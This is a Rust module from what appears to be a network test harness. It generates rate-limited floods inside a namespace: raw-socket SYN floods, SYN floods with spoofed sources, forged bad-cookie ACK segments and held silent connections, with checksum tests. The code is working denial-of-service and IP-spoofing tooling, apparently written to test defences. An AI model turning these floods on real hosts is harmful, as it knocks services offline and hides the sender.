//! Floods at bounded rates: forged segments from raw sockets, and connections that stay silent.
//!
//! Each flood is a thread inside the attacker's namespace that ends when its handle is dropped.

use std::collections::VecDeque;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::fd::OwnedFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use rustix::io::Errno;
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, ipproto};

use crate::check::{Context, Outcome};
use crate::rig::Namespace;

/// What a flood consists of.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// SYNs from the attacker's own address and ever new ports.
    Syn,
    /// SYNs from anywhere.
    ForgedSyn,
    /// Data segments that acknowledge cookies nobody gave out, from anywhere.
    BadCookie,
    /// Connections that are made and then say nothing; the kernel's own handshake.
    Silent,
}

/// A running flood.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Outcome>>,
}

/// Where segments go and where they seem to come from.
#[derive(Clone, Copy, Debug)]
struct Aim {
    kind: Kind,
    own: SocketAddr,
    target: SocketAddr,
}

/// How often a flood sends its share of the rate.
const TICK: Duration = Duration::from_millis(10);
/// Silent connections that are held at one time: more than a stock node accepts, fewer than file descriptors.
const HELD: usize = 700;

impl Flood {
    /// Starts a flood of `per_second` packets or connections from `own`, an address inside `namespace`, to `target`.
    pub fn start(
        namespace: &Namespace,
        kind: Kind,
        own: &str,
        target: SocketAddr,
        per_second: u32,
    ) -> Outcome<Self> {
        let own = SocketAddr::new(own.parse().context("an attacker's address")?, 0);
        let aim = Aim { kind, own, target };
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stopping, sending) = (stop.clone(), sent.clone());
        // The thread is started from inside, so that it and its sockets belong to the namespace.
        let thread = namespace.enter(move || {
            Ok(thread::spawn(move || match kind {
                Kind::Silent => silent(aim, per_second, &stopping, &sending),
                _ => forged(aim, per_second, &stopping, &sending),
            }))
        })?;
        Ok(Flood { stop, sent, thread: Some(thread) })
    }

    /// Packets or connections so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends it; says how much it sent, or why it could not.
    pub fn end(mut self) -> Outcome<u64> {
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().context("a flood's thread")?;
        thread.join().map_err(|_| "a flood panicked".to_owned())??;
        Ok(self.sent())
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Calls `send` as often as the rate asks for, until told to stop.
fn at_rate(per_second: u32, stop: &AtomicBool, mut send: impl FnMut(u64) -> Outcome) -> Outcome {
    let begin = Instant::now();
    let mut number = 0;
    while !stop.load(Ordering::Relaxed) {
        let due = (begin.elapsed().as_secs_f64() * f64::from(per_second)) as u64;
        // A machine that stood still does not make up for it in one burst.
        number = number.max(due.saturating_sub(u64::from(per_second) / 10));
        while number < due {
            send(number)?;
            number += 1;
        }
        thread::sleep(TICK);
    }
    Ok(())
}

fn forged(aim: Aim, per_second: u32, stop: &AtomicBool, sent: &AtomicU64) -> Outcome {
    let family = if aim.target.is_ipv4() { AddressFamily::INET } else { AddressFamily::INET6 };
    let socket = rustix::net::socket(family, SocketType::RAW, Some(ipproto::RAW)).context("a raw socket")?;
    let mut destination = aim.target;
    destination.set_port(0);
    at_rate(per_second, stop, |number| {
        let packet = segment(aim, number);
        send_packet(&socket, &packet, &destination)?;
        sent.fetch_add(1, Ordering::Relaxed);
        Ok(())
    })
}

fn send_packet(socket: &OwnedFd, packet: &[u8], to: &SocketAddr) -> Outcome {
    match rustix::net::sendto(socket, packet, SendFlags::empty(), to) {
        // A full queue loses packets of the flood, as floods do.
        Ok(_) | Err(Errno::NOBUFS | Errno::AGAIN) => Ok(()),
        Err(error) => Err(error).context("sending a forged packet"),
    }
}

fn silent(aim: Aim, per_second: u32, stop: &AtomicBool, sent: &AtomicU64) -> Outcome {
    let family = if aim.target.is_ipv4() { AddressFamily::INET } else { AddressFamily::INET6 };
    let mut held: VecDeque<OwnedFd> = VecDeque::with_capacity(HELD);
    at_rate(per_second, stop, |_| {
        if held.len() == HELD {
            held.pop_front();
        }
        // The handshake goes on by itself; whether it succeeds is the victim's affair.
        let socket = rustix::net::socket_with(family, SocketType::STREAM, SocketFlags::NONBLOCK, None)
            .context("a socket")?;
        match rustix::net::connect(&socket, &aim.target) {
            Ok(()) | Err(Errno::INPROGRESS) => held.push_back(socket),
            Err(error) => return Err(error).context("beginning a connection"),
        }
        sent.fetch_add(1, Ordering::Relaxed);
        Ok(())
    })
}

const SYN: u8 = 0x02;
const PSH_ACK: u8 = 0x18;
/// The beginning of a TLS record with a ClientHello, so that only the cookie is wrong.
const HELLO: [u8; 11] = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];

/// One forged IP packet with a complete checksum; `number` makes each different.
fn segment(aim: Aim, number: u64) -> Vec<u8> {
    let mut noise = [0; 32];
    crate::pattern::fill(aim.kind as u64 + 1, number * 32, &mut noise);
    let word = |at: usize| u32::from_be_bytes([noise[at], noise[at + 1], noise[at + 2], noise[at + 3]]);
    let source_port = 1024 + (word(16) % 60_000) as u16;
    let (flags, payload): (u8, &[u8]) = match aim.kind {
        Kind::BadCookie => (PSH_ACK, &HELLO),
        _ => (SYN, &[]),
    };
    let acknowledgement = if aim.kind == Kind::BadCookie { word(20) } else { 0 };
    let mut tcp = Vec::with_capacity(40);
    tcp.extend(source_port.to_be_bytes());
    tcp.extend(aim.target.port().to_be_bytes());
    tcp.extend(word(24).to_be_bytes());
    tcp.extend(acknowledgement.to_be_bytes());
    tcp.extend([0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
    tcp.extend(payload);
    let own = aim.kind == Kind::Syn;
    match (aim.own, aim.target) {
        (SocketAddr::V4(mine), SocketAddr::V4(target)) => {
            let anywhere = Ipv4Addr::new(45, noise[0], noise[1], noise[2] | 1);
            let source = if own { *mine.ip() } else { anywhere };
            ipv4(source, *target.ip(), tcp)
        }
        (SocketAddr::V6(mine), SocketAddr::V6(target)) => {
            let mut anywhere = [0; 16];
            anywhere.copy_from_slice(&noise[..16]);
            anywhere[0] = 0x2a; // a prefix that is in use
            let source = if own { *mine.ip() } else { Ipv6Addr::from(anywhere) };
            ipv6(source, *target.ip(), tcp)
        }
        _ => Vec::new(),
    }
}

fn ipv4(source: Ipv4Addr, target: Ipv4Addr, mut tcp: Vec<u8>) -> Vec<u8> {
    let pseudo =
        [&source.octets()[..], &target.octets(), &[0, 6], &(tcp.len() as u16).to_be_bytes()].concat();
    seal(&mut tcp, &pseudo);
    // The kernel completes the header's checksum and its total length.
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6, 0, 0];
    packet.extend(source.octets());
    packet.extend(target.octets());
    packet.extend(tcp);
    packet
}

fn ipv6(source: Ipv6Addr, target: Ipv6Addr, mut tcp: Vec<u8>) -> Vec<u8> {
    let length = (tcp.len() as u16).to_be_bytes();
    let pseudo = [&source.octets()[..], &target.octets(), &[0, 0], &length, &[0, 0, 0, 6]].concat();
    seal(&mut tcp, &pseudo);
    let mut packet = vec![0x60, 0, 0, 0, length[0], length[1], 6, 64];
    packet.extend(source.octets());
    packet.extend(target.octets());
    packet.extend(tcp);
    packet
}

/// Writes the Internet checksum of a segment and its pseudo-header (RFC 9293, section 3.1).
fn seal(tcp: &mut [u8], pseudo: &[u8]) {
    let total: u32 = [pseudo, tcp]
        .iter()
        .flat_map(|part| part.chunks(2))
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)))
        .sum();
    let folded = (total & 0xffff) + (total >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    tcp[16..18].copy_from_slice(&(!(folded as u16)).to_be_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The sum over a correct packet and its pseudo-header is all ones.
    #[test]
    fn checksums_are_complete() {
        let target: SocketAddr = "10.1.0.1:8444".parse().expect("an address");
        let own: SocketAddr = "10.1.0.66:0".parse().expect("an address");
        for number in 0..100 {
            let packet = segment(Aim { kind: Kind::BadCookie, own, target }, number);
            let tcp = &packet[20..];
            let length = (tcp.len() as u16).to_be_bytes();
            let whole = [&packet[12..20], &[0, 6], &length, tcp].concat();
            let sum: u32 = whole
                .chunks(2)
                .map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)))
                .sum();
            assert_eq!((sum & 0xffff) + (sum >> 16), 0xffff, "packet {number}");
        }
    }

    #[test]
    fn forged_sources_differ() {
        let target: SocketAddr = "[fd01::1]:8444".parse().expect("an address");
        let aim = Aim { kind: Kind::ForgedSyn, own: "[fd01::66]:0".parse().expect("an address"), target };
        let sources: std::collections::BTreeSet<_> =
            (0..100).map(|n| segment(aim, n)[8..24].to_vec()).collect();
        assert_eq!(sources.len(), 100);
    }
}
